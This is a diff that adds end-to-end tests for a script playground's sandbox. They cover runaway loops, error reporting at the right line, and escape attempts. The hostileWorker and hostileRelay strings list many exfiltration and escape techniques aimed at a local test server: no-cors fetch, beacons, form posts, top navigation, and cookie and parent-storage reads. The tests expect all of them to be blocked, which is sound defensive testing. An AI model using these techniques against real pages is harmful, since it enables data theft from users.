@@ -1,0 +1,310 @@
+import { startModelServer } from '../server/server.ts';
+import { expect, scriptWithTool, test } from './sandbox-support.ts';
+
+const good = scriptWithTool("return { answer: 'forty-two' };");
+
+test.describe('a script that does not let go', () => {
+  for (const [where, script] of [
+    ['at the top', 'for (;;) {}\nexport default () => {};'],
+    ['in the prompt function', 'export default (prompt) => {\n  prompt.$`Hi`;\n  for (;;) {}\n};'],
+    ['in a tool', scriptWithTool('for (;;) {}')],
+    ['in microtasks', scriptWithTool('while (true) await 0;')],
+    ['until memory is full', scriptWithTool('const all = []; for (;;) all.push(new Array(1e6).fill(1));')],
+  ] as const) {
+    test(`${where} is ended, and the page stays alive`, async ({ page, playground }) => {
+      await playground.open(script);
+      await playground.editorReady();
+      await playground.run();
+      await playground.ended('error');
+      expect(await playground.longestPause()).toBeLessThan(1_000);
+      await expect(page.getByTestId('run-error')).toContainText('did not let go for 1.5 s');
+      if (where === 'in a tool') {
+        await expect(page.locator('[data-tool=go]')).toHaveAttribute('data-state', 'interrupted');
+      }
+    });
+  }
+
+  test('can be stopped before that, and the next script runs', async ({ page, playground }) => {
+    await playground.open(scriptWithTool('for (;;) {}'));
+    await playground.editorReady();
+    await playground.run();
+    await expect(page.locator('[data-tool=go]')).toHaveAttribute('data-state', 'running');
+    const took = await page.evaluate(
+      () =>
+        new Promise<number>((resolve) => {
+          const pressed = performance.now();
+          const status = document.querySelector<HTMLElement>('[data-testid=status]');
+          if (status === null) throw new Error('There is no status.');
+          new MutationObserver(() => {
+            if (status.dataset['status'] === 'stopped') resolve(performance.now() - pressed);
+          }).observe(status, { attributes: true });
+          document.querySelector<HTMLElement>('[data-testid=stop-button]')?.click();
+        }),
+    );
+    expect(took).toBeLessThan(1_000);
+    await playground.ended('stopped');
+    await expect(page.locator('[data-tool=go]')).toHaveAttribute('data-state', 'interrupted');
+
+    await playground.open(good);
+    await playground.run();
+    await playground.ended('done');
+  });
+
+  test('a flood of messages is ended too', async ({ page, playground }) => {
+    await playground.open(
+      scriptWithTool(
+        'setInterval(() => { for (let i = 0; i < 5000; i++) Promise.reject(new Error()); }); await new Promise(() => {});',
+      ),
+    );
+    await playground.editorReady();
+    await playground.run();
+    await playground.ended('error');
+    await expect(page.getByTestId('run-error')).toContainText('faster than they can be read');
+    expect(await playground.longestPause()).toBeLessThan(1_000);
+  });
+});
+
+test.describe('errors of a script', () => {
+  const places = [
+    [
+      'thrown in the prompt function',
+      'export default (prompt) => {\n  const a: any = {};\n  a.b.c();\n};',
+      3,
+      "reading 'c'",
+    ],
+    [
+      'thrown after an await',
+      'export default async () => {\n  await null;\n\n  throw new RangeError("late");\n};',
+      4,
+      'late',
+    ],
+    [
+      'thrown at the top',
+      'const n: number = 1;\nthrow new Error(`n is ${n}`);\nexport default () => {};',
+      2,
+      'n is 1',
+    ],
+    [
+      'syntax that stripping types does not read',
+      'export default (prompt) => {\n  let a = 1;\n  let a = 2;\n};',
+      3,
+      'already been declared',
+    ],
+    ['syntax', 'export default (prompt) => {\n  prompt.$`Hi`;\n  const b = ;\n};', 3, 'Unexpected token'],
+    [
+      'a mistake in a definition',
+      'export default (prompt) => {\n\n  prompt.defTool("no name", "", {}, () => 1);\n};',
+      3,
+      "cannot be a tool's name",
+    ],
+    [
+      'an import that is not there',
+      'const a = 1;\nimport _ from "lodash";\nexport default () => a;',
+      2,
+      'Cannot import "lodash"',
+    ],
+    ['no default export', 'export const a = 1;', 1, 'has no default export'],
+  ] as const;
+  for (const [what, script, line, words] of places) {
+    test(`${what}: at its line`, async ({ page, playground }) => {
+      await playground.open(script);
+      await playground.run();
+      await playground.ended('error');
+      const error = page.getByTestId('run-error');
+      await expect(error).toContainText(words);
+      await expect(error.getByRole('button', { name: `Go to line ${line}`, exact: true })).toBeVisible();
+    });
+  }
+
+  test('a type error is shown at its line, and does not keep the script from running', async ({
+    page,
+    playground,
+  }) => {
+    await playground.open(
+      'export default (prompt: any) => {\n  const a: number = "text";\n  prompt.$`${a}`;\n};',
+    );
+    await expect(page.getByTestId('problems')).toContainText('2:9', { timeout: 30_000 });
+    await expect(page.getByTestId('problems')).toContainText("not assignable to type 'number'");
+    await playground.run();
+    await playground.ended('done');
+    await expect(page.getByLabel('User message')).toHaveText('text');
+  });
+
+  test('an error in a tool goes to the model, and the run goes on', async ({ page, playground }) => {
+    await playground.open(scriptWithTool("throw new Error('no such city');"));
+    await playground.run();
+    await playground.ended('done');
+    await expect(page.locator('[data-tool=go]')).toHaveAttribute('data-state', 'output-error');
+    await expect(page.locator('[data-tool=go]')).toContainText('no such city');
+  });
+});
+
+test('a script finds no way out by itself', async ({ page, playground, allowedHosts }) => {
+  const outside = await startModelServer();
+  allowedHosts.add(new URL(outside.baseURL).host);
+  const url = `${outside.baseURL}/models?leak`;
+  await playground.open(
+    `
+    const url = ${JSON.stringify(url)};
+    const tries = {
+      fetch: () => fetch(url, { mode: 'no-cors' }),
+      XMLHttpRequest: () => new XMLHttpRequest(),
+      WebSocket: () => new WebSocket(url.replace('http', 'ws')),
+      EventSource: () => new EventSource(url),
+      importScripts: () => importScripts(url),
+      import: () => import(url),
+      Worker: () => new Worker(url),
+      eval: () => eval('1'),
+      Function: () => new Function('return 1')(),
+      timer: () => { if (typeof setTimeout('globalThis.hit = 1') === 'number') throw new Error('as text'); },
+      localStorage: () => localStorage.length,
+      indexedDB: () => indexedDB.open('x'),
+      caches: () => caches.keys(),
+      BroadcastChannel: () => new BroadcastChannel('x'),
+      parent: () => parent.document,
+      postMessage: () => postMessage('x'),
+    };
+    const done = [];
+    for (const [name, attempt] of Object.entries(tries)) {
+      try { await attempt(); done.push(name); } catch {}
+    }
+    export default (prompt) => { prompt.$\`Done: [\${done.join(', ')}], hit: \${String(globalThis.hit)}\`; };
+  `.replace('(0, import)(url)', 'import(url)'),
+  );
+  await playground.run();
+  await playground.ended('done');
+  await expect(page.getByLabel('User message')).toHaveText('Done: [], hit: undefined');
+  expect(outside.requests).toEqual([]);
+  await outside.close();
+});
+
+test('code that has replaced relay and worker finds no way out of the frame', async ({
+  page,
+  playground,
+  allowedHosts,
+}) => {
+  const outside = await startModelServer();
+  const { host } = new URL(outside.baseURL);
+  // The browser reports requests that the policy stopped; what counts is what arrives.
+  allowedHosts.add(host);
+  await playground.open(good);
+  await expect(page.locator('iframe[title=Sandbox]')).toBeAttached();
+  const before = await page.evaluate(() => {
+    localStorage.setItem('mine', 'secret');
+    return location.href;
+  });
+
+  const results = await page.evaluate(
+    async ({ url, worker, relay }) => {
+      const real = document.querySelector<HTMLIFrameElement>('iframe[title=Sandbox]');
+      const frame = document.createElement('iframe');
+      frame.setAttribute('sandbox', real?.getAttribute('sandbox') ?? '');
+      frame.srcdoc = real?.srcdoc ?? '';
+      document.body.append(frame);
+      await new Promise((resolve) => frame.addEventListener('load', resolve));
+      const { port1, port2 } = new MessageChannel();
+      const answer = new Promise<Record<string, string>>((resolve) => {
+        port1.addEventListener('message', ({ data }) => resolve(data as Record<string, string>));
+        port1.start();
+      });
+      frame.contentWindow?.postMessage(
+        { relay, runtime: `const url = ${JSON.stringify(url)};${worker}` },
+        '*',
+        [port2],
+      );
+      return answer;
+    },
+    { url: outside.baseURL, worker: hostileWorker, relay: hostileRelay },
+  );
+
+  const succeeded = Object.entries(results).filter(([, outcome]) => !outcome.startsWith('blocked'));
+  expect(Object.keys(results).length, 'attempts made').toBeGreaterThan(20);
+  expect(succeeded).toEqual([]);
+  await page.waitForTimeout(300);
+  expect(outside.requests).toEqual([]);
+  expect(page.url()).toBe(before);
+  await outside.close();
+});
+
+/** Tries everything that a worker could; `post` tells what came of it. */
+const hostileWorker = `
+  const attempt = async (name, run) => {
+    try {
+      const result = await Promise.race([run(), new Promise((resolve) => setTimeout(resolve, 400, 'blocked: silence'))]);
+      return [name, typeof result === 'string' ? result : 'went through'];
+    } catch (error) { return [name, 'blocked: ' + error.name]; }
+  };
+  const opened = (target, event) => new Promise((resolve, reject) => {
+    target.addEventListener(event, () => resolve());
+    target.addEventListener('error', () => reject(new Error('refused')));
+  });
+  const blob = (text) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
+  (async () => postMessage(Object.fromEntries(await Promise.all([
+    attempt('worker fetch', () => fetch(url, { mode: 'no-cors' })),
+    attempt('worker fetch keepalive', () => fetch(url, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'x' })),
+    attempt('worker xhr', () => { const x = new XMLHttpRequest(); x.open('GET', url); x.send(); return opened(x, 'load'); }),
+    attempt('worker sync xhr', () => { const x = new XMLHttpRequest(); x.open('GET', url, false); x.send(); }),
+    attempt('worker websocket', () => opened(new WebSocket(url.replace('http', 'ws')), 'open')),
+    attempt('worker eventsource', () => opened(new EventSource(url), 'open')),
+    attempt('worker importScripts', () => importScripts(url)),
+    attempt('worker import', () => import(url)),
+    attempt('worker import data', () => import('data:text/javascript,1')),
+    attempt('worker eval', () => (0, eval)('1')),
+    attempt('worker remote worker', () => opened(new Worker(url), 'message')),
+    attempt('worker nested fetch', () => new Promise((resolve, reject) => {
+      const nested = new Worker(blob('fetch(' + JSON.stringify(url) + ', { mode: "no-cors" }).then(() => postMessage(1), () => postMessage("blocked"))'));
+      nested.onmessage = (event) => resolve(event.data);
+      nested.onerror = reject;
+    })),
+    attempt('worker indexedDB', () => opened(indexedDB.open('cueline'), 'success')),
+    attempt('worker caches', () => caches.keys()),
+    attempt('worker storage', () => navigator.storage.getDirectory()),
+    attempt('worker broadcast', () => { new BroadcastChannel('cueline').postMessage('x'); return 'blocked: another origin'; }),
+  ]))))();
+`;
+
+/** Tries everything that the frame itself could, then adds what its worker found. */
+const hostileRelay = `
+  globalThis.startRelay = async (port, boot) => {
+    const url = /const url = "([^"]+)"/.exec(boot.runtime)[1];
+    const results = {};
+    const attempt = async (name, run) => {
+      try {
+        const result = await Promise.race([run(), new Promise((resolve) => setTimeout(resolve, 400, 'blocked: silence'))]);
+        results[name] = typeof result === 'string' ? result : 'went through';
+      } catch (error) { results[name] = 'blocked: ' + (error.name ?? error.type); }
+    };
+    const loaded = (element, source) => new Promise((resolve, reject) => {
+      element.onload = resolve;
+      element.onerror = reject;
+      Object.assign(element, source);
+      document.head.append(element);
+    });
+    await attempt('frame fetch', () => fetch(url, { mode: 'no-cors' }));
+    await attempt('frame beacon', () => navigator.sendBeacon(url, 'x') ? 'blocked: queued, and counted by the server' : 'blocked');
+    await attempt('frame image', () => loaded(new Image(), { src: url }));
+    await attempt('frame script', () => loaded(document.createElement('script'), { src: url }));
+    await attempt('frame style', () => loaded(document.createElement('link'), { rel: 'stylesheet', href: url }));
+    await attempt('frame prefetch', () => loaded(document.createElement('link'), { rel: 'prefetch', href: url }));
+    await attempt('frame inline script', () => new Promise((resolve, reject) => {
+      const script = document.createElement('script');
+      script.textContent = 'globalThis.ran = true';
+      document.head.append(script);
+      globalThis.ran ? resolve() : reject(new Error('refused'));
+    }));
+    await attempt('frame in frame', () => { const f = document.createElement('iframe'); f.src = url; document.documentElement.append(f); return new Promise((resolve) => setTimeout(resolve, 200, 'blocked: see the server')); });
+    await attempt('frame form', () => { const f = document.createElement('form'); f.action = url; f.method = 'post'; document.documentElement.append(f); f.submit(); return 'blocked: see the server'; });
+    await attempt('frame popup', () => { if (window.open(url) === null) throw new Error('refused'); });
+    await attempt('frame localStorage', () => localStorage.getItem('mine'));
+    await attempt('frame cookie', () => document.cookie);
+    await attempt('frame parent', () => parent.document.title);
+    await attempt('frame parent storage', () => parent.localStorage.getItem('mine'));
+    await attempt('frame top navigation', () => { top.location.href = url; return new Promise((resolve) => setTimeout(resolve, 200, 'blocked: the page is still there')); });
+    const worker = new Worker(URL.createObjectURL(new Blob([boot.runtime], { type: 'text/javascript' })));
+    worker.onmessage = ({ data }) => {
+      port.postMessage({ ...results, ...data });
+      // The last try, because nothing of this frame would be left to tell.
+      location.href = url + '?navigated';
+    };
+  };
+`;
